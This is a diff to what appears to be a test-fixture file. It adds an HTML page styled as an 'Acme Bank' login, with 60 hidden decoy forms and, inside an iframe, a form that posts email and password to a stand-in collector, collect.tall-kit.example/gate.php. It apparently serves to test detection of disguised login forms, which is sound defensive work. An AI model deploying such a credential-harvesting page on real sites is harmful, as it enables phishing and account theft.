@@ -24,3 +24,21 @@ export const SHADOW_LOGIN = `<!doctype html><html><head><meta charset="utf-8"><t
     '<input name="user" type="email"><input name="secret" type="password"><button>Sign in</button></form>';
   document.title = 'Shadow login ready';
 </script></body></html>`;
+
+/**
+ * Issue 41: a page six screens tall (set from the window's height) with a red
+ * sticky header, 60 hidden decoy forms first, the real login form in an
+ * `<iframe srcdoc>` near the bottom, and a blue band at the very bottom.
+ */
+export const TALL_FRAMED_LOGIN = `<!doctype html><html><head><meta charset="utf-8"><title>Tall login</title>
+<style>body { margin: 0; font: 20px sans-serif; background: #fff } header { position: sticky; top: 0; height: 50px; background: rgb(200, 0, 0); color: #fff }
+#bottom { height: 40px; background: rgb(0, 0, 200) } iframe { display: block; width: 600px; height: 200px; border: 0 }</style></head>
+<body><header>Acme Bank</header>
+<div hidden>${'<form action="/decoy" method="post"><input name="q"></form>'.repeat(60)}</div>
+<div id="filler">Scroll down to sign in</div>
+<iframe srcdoc="${'<form action=&quot;https://collect.tall-kit.example/gate.php&quot; method=&quot;post&quot;><input name=&quot;user&quot; type=&quot;email&quot;><input name=&quot;secret&quot; type=&quot;password&quot;><button>Sign in</button></form>'}"></iframe>
+<div id="bottom"></div>
+<script>
+  document.getElementById('filler').style.height = (6 * innerHeight - 50 - 200 - 40) + 'px';
+  document.title = 'Tall login ready';
+</script></body></html>`;
